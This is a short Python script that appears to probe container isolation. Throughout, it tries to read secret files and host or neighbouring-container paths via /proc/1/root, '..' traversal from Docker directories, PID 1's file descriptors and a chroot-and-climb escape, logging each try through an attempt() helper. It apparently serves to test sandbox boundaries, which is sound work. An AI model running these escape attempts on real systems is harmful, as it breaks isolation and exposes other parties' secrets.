for path in (*FACTS["secrets"], *FACTS["folders"]):
    for root in (
        "",
        "/proc/1/root",
        "/proc/self/root",
        "/proc/1/cwd",
        "/run/daemon/../../..",
        "/var/lib/docker/../../../..",
        "/var/lib/docker/../" + FACTS["neighbour"],
        "/proc/self/fd/0/../../..",
    ):
        attempt(f"{root}{path}", lambda: os.open(f"{root}{path}", os.O_RDONLY))
for descriptor in os.listdir("/proc/1/fd"):
    where = os.readlink(f"/proc/1/fd/{descriptor}")
    if not where.startswith(("pipe:", "socket:", "anon_inode:", "/dev/null", "/dev/pts")):
        attempt(
            f"descriptor {descriptor} {where}", lambda: os.open(f"/proc/1/fd/{descriptor}/..", os.O_RDONLY)
        )
for name in ("..", "../..", f"../{FACTS['neighbour']}", "../../" + FACTS["golden"]):
    attempt(
        f"beside the data root {name}",
        lambda: os.stat(f"/var/lib/docker/{name}/containerd") if name != ".." else 1 / 0,
    )
attempt("the worker's side of the sockets", lambda: os.listdir("/run/daemon/..")) if os.path.exists(
    "/run/daemon/../inside"
) else None
attempt(
    "chroot and climb",
    lambda: (
        os.makedirs("/tmp/jail"),
        os.chroot("/tmp/jail"),
        os.chdir("../../../../.."),
        open("etc/machine-id-of-host"),
    ),
)
print("END")
